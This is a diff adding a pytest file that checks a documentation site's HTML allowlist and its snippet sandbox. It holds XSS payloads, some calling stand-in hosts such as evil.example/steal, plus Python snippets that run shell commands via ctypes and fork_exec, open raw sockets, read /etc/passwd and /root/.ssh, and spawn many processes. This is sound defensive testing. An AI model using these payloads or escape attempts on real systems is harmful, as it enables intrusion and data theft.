@@ -1,0 +1,267 @@
+"""Hostile pages and snippets, as a stranger's pull request could send them.
+
+Pages: the rendered HTML must pass the allowlist (dlqa.htmlcheck), whatever the Markdown
+source looked like. Snippets: the OS sandbox (dlqa.isolation) must keep a snippet from
+writing, connecting or running anything on the machine that builds it, whatever Python it
+calls. Every attack here is real code or markup that attempts it.
+"""
+
+from __future__ import annotations
+
+import socket
+import textwrap
+import threading
+
+import pytest
+
+from dlqa import htmlcheck, isolation
+from dlqa.repo import Repo
+from dlqa.snippets import run_snippet
+from tests.conftest import ROOT
+
+PAGE = "docs/fundamentals/tensor.md"
+ANCHOR = "- A tensor is not always three-dimensional."
+
+# attack name -> (Markdown or HTML placed in a page, what the error must say)
+PAGE_ATTACKS = {
+    "svg-onload-no-space": ("<svg/onload=alert(1)>", "<svg> element"),
+    "entity-encoded-scheme": ('<a href="jav&#x61;script:alert(1)">x</a>', "javascript: link"),
+    "tab-in-scheme": ('<a href="java&#9;script:alert(1)">x</a>', "javascript: link"),
+    "markdown-javascript-link": ("[click](javascript:alert(1))", "javascript: link"),
+    "vbscript-link": ('<a href="vbscript:msgbox(1)">x</a>', "vbscript: link"),
+    "data-url-image": ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "data: resource"),
+    "external-image": ("![x](https://tracker.example/pixel.png)", "https: resource"),
+    "protocol-relative-image": ('<img src="//tracker.example/p.png" alt="">',
+                                "protocol-relative URL"),
+    "srcset": ('<img src="a.png" srcset="https://tracker.example/p.png 2x" alt="">',
+               "attribute srcset="),
+    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">',
+                     "<meta> element"),
+    "form-posting-elsewhere": ('<form action="https://evil.example/steal"><input name="q">'
+                               "</form>", "<form> element"),
+    "external-stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">',
+                            "<link> element"),
+    "iframe-srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+                      "<iframe> element"),
+    "mathml-action": ('<math><maction actiontype="statusline">x</maction></math>',
+                      "<math> element"),
+    "object": ('<object data="https://evil.example/x.swf"></object>', "<object> element"),
+    "embed": ('<embed src="https://evil.example/x.swf">', "<embed> element"),
+    "base": ('<base href="https://evil.example/">', "<base> element"),
+    "style-attribute": ('<p style="background:url(https://evil.example/x)">x</p>',
+                        "attribute style="),
+    "attr-list-handler": ('Click me\n{: onclick="alert(1)" }', "event-handler attribute onclick="),
+    "stray-close-then-script": ("</div></div><script>alert(1)</script>", "<script> element"),
+    "noscript-confusion": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+                           "<noscript> element"),
+    "script": ("<script>alert(1)</script>", "<script> element"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(PAGE_ATTACKS))
+def test_html_allowlist_rejects(name):
+    import markdown
+
+    attack, message = PAGE_ATTACKS[name]
+    html = markdown.markdown(attack, extensions=["attr_list", "md_in_html"])
+    found = htmlcheck.problems(html)
+    assert any(message in p.what for p in found), (html, found)
+
+
+def test_html_allowlist_accepts_what_markdown_makes():
+    import markdown
+
+    text = textwrap.dedent("""\
+        ## Heading {#anchor}
+
+        Text with *emphasis*, `code`, a [link](other.md#part), a [site](https://example.org),
+        [mail](mailto:a@example.org) and ![a figure](../assets/figure.svg).
+
+        | a | b |
+        |:--|--:|
+        | 1 | 2 |
+
+        Term
+        :   Definition[^1]
+
+        [^1]: A footnote.
+        """)
+    html = markdown.markdown(text, extensions=["tables", "def_list", "footnotes", "attr_list",
+                                               "toc"])
+    assert htmlcheck.problems(html) == []
+
+
+ATTACKS_IN_A_BUILD = ("svg-onload-no-space", "meta-refresh", "form-posting-elsewhere",
+                      "external-image", "attr-list-handler", "entity-encoded-scheme")
+
+
+@pytest.mark.parametrize("name", ATTACKS_IN_A_BUILD)
+def test_a_hostile_page_fails_the_build_and_is_not_published(scratch, name):
+    attack, message = PAGE_ATTACKS[name]
+    scratch.edit(PAGE, ANCHOR, f"{ANCHOR}\n\n{attack}\n")
+    build = scratch.build()
+    assert build.returncode != 0
+    assert f"{PAGE}:40: " in build.stderr and message in build.stderr, build.stderr[-1500:]
+    assert not (scratch.root / "site" / "fundamentals" / "tensor.html").exists()
+
+
+# --- snippets ---------------------------------------------------------------------------
+
+@pytest.fixture
+def sandboxed(tmp_path, monkeypatch):
+    """Runs a snippet in the real sandbox; yields (run(code) -> result, a host folder)."""
+    if isolation.opted_out():
+        pytest.fail(f"{isolation.OPT_OUT} is set: the sandbox tests need the sandbox")
+    repo = Repo(tmp_path / "repo")
+    (repo.root / "snippets").mkdir(parents=True)
+    host = tmp_path / "host"
+    host.mkdir()
+
+    def run(code: str):
+        path = repo.root / "snippets" / "attack.py"
+        path.write_text(textwrap.dedent(code), encoding="utf-8")
+        return run_snippet(path, repo, timeout=60)
+
+    return run, host
+
+
+def test_ctypes_system_cannot_touch_the_host(sandboxed):
+    run, host = sandboxed
+    target = host / "pwned"
+    result = run(f"""
+        import ctypes, os
+        ctypes.CDLL(None).system(b"touch ran-inside {target} {ROOT}/pwned-by-snippet")
+        print("the command ran:", os.path.exists("ran-inside"))
+        """)
+    assert "the command ran: True" in result.output, result  # the attack was really made
+    assert not target.exists() and not (ROOT / "pwned-by-snippet").exists()
+
+
+def test_posixsubprocess_fork_exec_cannot_touch_the_host(sandboxed):
+    run, host = sandboxed
+    target = host / "pwned"
+    result = run(f"""
+        import os, _posixsubprocess
+        r, w = os.pipe()
+        pid = _posixsubprocess.fork_exec(
+            [b"/bin/sh", b"-c", b"touch ran-inside {target}"], [b"/bin/sh"], True, (w,), None,
+            None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None,
+            False)  # the 23 arguments of CPython 3.11's subprocess call
+        os.waitpid(pid, 0)
+        print("the command ran:", os.path.exists("ran-inside"))
+        """)
+    assert "the command ran: True" in result.output, result
+    assert not target.exists()
+
+
+def test_a_forked_child_cannot_touch_the_host(sandboxed):
+    run, host = sandboxed
+    target = host / "pwned"
+    result = run(f"""
+        import ctypes, os
+        libc = ctypes.CDLL(None)
+        pid = libc.fork()
+        if pid == 0:
+            for path in (b"ran-inside", b"{target}"):
+                libc.open(path, os.O_WRONLY | os.O_CREAT, 0o644)
+            libc._exit(0)
+        os.waitpid(pid, 0)
+        print("the child ran:", os.path.exists("ran-inside"))
+        """)
+    assert "the child ran: True" in result.output, result
+    assert not target.exists()
+
+
+def test_raw_sockets_reach_no_server(sandboxed):
+    run, _ = sandboxed
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(5)
+    port = server.getsockname()[1]
+    accepted = []
+
+    def accept():
+        try:
+            accepted.append(server.accept())
+        except OSError:
+            pass
+
+    thread = threading.Thread(target=accept)
+    thread.start()
+    result = run(f"""
+        import ctypes, struct
+        libc = ctypes.CDLL(None, use_errno=True)
+        fd = libc.socket(2, 1, 0)
+        addr = struct.pack("!HH4s8x", 2, {port}, bytes([127, 0, 0, 1]))
+        addr = struct.pack("H", 2) + addr[2:]
+        rc = libc.connect(fd, addr, len(addr))
+        print("connect returned", rc, "errno", ctypes.get_errno())
+        """)
+    thread.join()
+    server.close()
+    assert accepted == []
+    assert "connect returned -1" in result.output, result
+
+
+def test_reading_the_builders_files_finds_nothing(sandboxed):
+    run, host = sandboxed
+    secret = host / "secret.txt"
+    secret.write_text("do-not-publish")
+    result = run(f"""
+        import os
+        for path in ("{secret}", "{ROOT}/mkdocs.yml", "/root/.ssh", "/etc/passwd"):
+            print(path, os.path.exists(path))
+        """)
+    assert result.ok and "do-not-publish" not in result.output
+    assert "True" not in result.output, result.output
+
+
+def test_allocating_20_gb_fails_inside_the_sandbox(sandboxed):
+    run, _ = sandboxed
+    result = run("""
+        import numpy as np
+        a = np.ones(20 * 1024**3 // 8)
+        print("allocated", a.nbytes)
+        """)
+    assert not result.ok and "MemoryError" in result.error
+
+
+def test_processes_a_snippet_starts_die_with_it(sandboxed):
+    """A snippet's children live in its own process namespace: when it ends, they end, so a
+    fork bomb lasts at most the time limit (and, when the build does not run as root, the
+    process limit caps it too)."""
+    run, _ = sandboxed
+    marker = "dlqa-orphan-test-7f3a"
+    result = run(f"""
+        import ctypes, os, time
+        libc = ctypes.CDLL(None)
+        argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", b"sleep 60; : {marker}", None)
+        for _ in range(20):
+            if libc.fork() == 0:
+                libc.execv(b"/bin/sh", argv)
+                libc._exit(1)
+        time.sleep(0.5)
+        print("processes", sum(name.isdigit() for name in os.listdir("/proc")))
+        """)
+    assert int(result.output.split()[-1]) > 20, result  # the children were running
+    import subprocess
+
+    left = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True)
+    assert left.stdout.strip() == "", "processes outlived the snippet"
+
+
+def test_without_bubblewrap_snippets_do_not_run(monkeypatch, scratch):
+    """Fail closed: no sandbox, no snippets, and the message says what to install."""
+    monkeypatch.setenv("PATH", "/nonexistent")
+    monkeypatch.delenv(isolation.OPT_OUT, raising=False)
+    isolation.check_available.cache_clear()
+    try:
+        from dlqa.catalogue import load_catalogue
+        from dlqa.snippets import run_page_snippets
+
+        results, errors = run_page_snippets(load_catalogue(Repo(scratch.root)))
+    finally:
+        isolation.check_available.cache_clear()
+    assert results == [] and len(errors) == 1
+    assert "install bubblewrap" in str(errors[0]) and isolation.OPT_OUT in str(errors[0])
